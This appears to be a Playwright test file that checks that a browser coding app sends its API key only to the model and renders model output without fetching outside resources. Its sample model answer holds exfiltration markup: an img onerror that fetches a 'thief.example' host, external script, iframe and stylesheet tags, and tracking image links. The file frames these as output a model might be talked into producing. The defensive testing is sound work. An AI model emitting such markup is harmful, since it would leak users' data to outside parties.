import type { BrowserContext, Page, Request } from '@playwright/test'
import { call, reply, text } from './fake-model/fake-model.ts'
import { expect, test } from './test.ts'

test.use({ serviceWorkers: 'allow' })

const KEY = 'sk-do-not-tell-anybody-0123456789'

/** What a model may be talked into saying, so that the page tells a stranger who reads it. */
const answer = `It is **done**. ![chart](https://images.example/chart.png?user=you)

<img src="https://pixel.example/p.gif" onerror="fetch('https://thief.example')">
<link rel="stylesheet" href="https://styles.example/a.css"><script src="https://scripts.example/a.js"></script>
<iframe src="https://frames.example/"></iframe>

![relative](//double.example/x.png) [the docs](https://links.example/docs) <https://auto.example/>

| picture |
| --- |
| ![in a table](https://tables.example/t.png) |

\`\`\`html
<img src="https://code.example/c.png">
\`\`\`
`

test('nothing leaves the page but what the app needs, and the key goes to the model alone', async ({
  app,
  page,
  context,
  tabsmith,
  fakeModel,
  host,
}) => {
  test.setTimeout(150_000)
  const { log, preview } = tabsmith
  const { seen, printed } = watch(context, page)
  fakeModel.settings.key = KEY
  fakeModel.queue(
    reply(
      call('read', { path: 'src/App.tsx' }),
      call('edit', {
        path: 'src/App.tsx',
        old: 'Your app will appear here',
        new: 'Keeps to itself',
      }),
    ),
    reply(text(answer)),
  )

  await test.step('settings, a build, an answer, the preview', async () => {
    await tabsmith.open()
    await tabsmith.useModel({ provider: 'OpenAI', baseURL: fakeModel.url, key: KEY })
    await tabsmith.build('something private')
    await expect(log.getByRole('link', { name: 'the docs' })).toHaveAttribute(
      'href',
      'https://links.example/docs',
    )
    // A picture is a link that nothing follows by itself.
    await expect(log.getByRole('link', { name: 'chart' })).toBeVisible()
    await expect(log.getByRole('link', { name: 'in a table' })).toBeVisible()
    await expect(log.locator('img, iframe, script, link')).toHaveCount(0)
    await log.getByRole('link', { name: 'the docs' }).hover()
    await expect(tabsmith.runtime).toContainText('ready', { timeout: 60_000 })
    await expect(preview.getByRole('heading', { name: 'Keeps to itself' })).toBeVisible()
    await tabsmith.saved()
  })

  await test.step('a reload, Settings, the home page', async () => {
    await page.reload()
    await expect(log.getByRole('link', { name: 'the docs' })).toBeVisible()
    await expect(tabsmith.runtime).toContainText('ready', { timeout: 60_000 })
    await expect(preview.getByRole('heading', { name: 'Keeps to itself' })).toBeVisible()
    await page.getByRole('button', { name: 'Settings', exact: true }).click()
    fakeModel.queue(reply(text('pong')))
    const dialog = page.getByRole('dialog', { name: 'Settings' })
    await dialog.getByRole('button', { name: 'Test connection' }).click()
    await expect.poll(() => fakeModel.requests.length).toBeGreaterThan(2)
    await page.keyboard.press('Escape')
    await page.getByRole('link', { name: 'All projects' }).click()
    await expect(
      page.getByRole('list', { name: 'Your projects' }).getByRole('listitem'),
    ).toHaveCount(1)
  })

  const appOrigin = new URL(app.url).origin
  const modelOrigin = new URL(fakeModel.url).origin
  const { origin: hostOrigin, port: hostPort } = new URL(host.origin)
  const isPreview = (origin: string) =>
    new RegExp(`^(http|ws)://[0-9a-f]{8}--\\d+\\.localhost:${hostPort}$`).test(origin)

  await test.step('every request went to the app, the model or the runtime', async () => {
    const origins = new Set(seen.map(({ url }) => new URL(url).origin))
    const others = [...origins].filter((origin) => !isPreview(origin))
    const known = [appOrigin, modelOrigin, hostOrigin, hostOrigin.replace('http', 'ws')]
    expect(others.sort()).toEqual(known.sort())
    expect([...origins].some(isPreview)).toBe(true)
    await expect(page.locator('link[rel~="preconnect"], link[rel~="dns-prefetch"]')).toHaveCount(0)
  })

  await test.step('the key went to the model', async () => {
    const told = seen.filter(({ sent }) => sent.includes(KEY))
    expect(told.length).toBeGreaterThan(0)
    expect([...new Set(told.map(({ url }) => new URL(url).origin))]).toEqual([modelOrigin])
    for (const { url, sent } of told) {
      expect(url).not.toContain(KEY)
      expect(sent.split(KEY)).toHaveLength(2)
    }
  })

  await test.step('the key is kept in its own store, and nowhere else', async () => {
    const stored = await page.evaluate(readStorage)
    const holding = Object.entries(stored).filter(([, content]) => content.includes(KEY))
    expect(holding.map(([name]) => name)).toEqual(['secrets'])
    // What the check reads is there.
    expect(stored['files']).toContain('Keeps to itself')
    expect(stored['parts']).toContain('something private')
    expect(await context.cookies()).toEqual([])
    expect(await page.content()).not.toContain(KEY)
  })

  await test.step('the console says nothing of it', () => {
    expect(printed.filter((line) => line.includes(KEY))).toEqual([])
  })
})

/** What left the page: requests, and what WebSockets sent. */
interface Sent {
  readonly url: string
  /** Headers and body, or the text of a frame. */
  readonly sent: string
}

/** Notes what leaves the page, and what its console prints. */
function watch(context: BrowserContext, page: Page) {
  const seen: Sent[] = []
  const printed: string[] = []
  context.on('request', (request: Request) => {
    const url = request.url()
    if (/^(data|blob):/.test(url)) return
    seen.push({ url, sent: JSON.stringify(request.headers()) + (request.postData() ?? '') })
  })
  page.on('websocket', (socket) => {
    const url = socket.url()
    seen.push({ url, sent: '' })
    socket.on('framesent', ({ payload }) => seen.push({ url, sent: payload.toString() }))
  })
  context.on('console', (message) => printed.push(message.text()))
  context.on('weberror', (error) => printed.push(String(error.error())))
  return { seen, printed }
}

/** In the page: all that is stored, as text, by the name of its store. */
async function readStorage(): Promise<Record<string, string>> {
  const done = <Result>(request: IDBRequest<Result>) =>
    new Promise<Result>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result)
      request.onerror = () => reject(request.error ?? new Error('The store cannot be read.'))
    })
  const plain = (_key: string, value: unknown): unknown =>
    value instanceof Uint8Array ? new TextDecoder().decode(value) : value
  const found: Record<string, string> = {
    localStorage: JSON.stringify(localStorage),
    sessionStorage: JSON.stringify(sessionStorage),
  }
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name))
    for (const store of database.objectStoreNames) {
      const records = await done(database.transaction(store).objectStore(store).getAll())
      found[store] = JSON.stringify(records, plain)
    }
    database.close()
  }
  return found
}
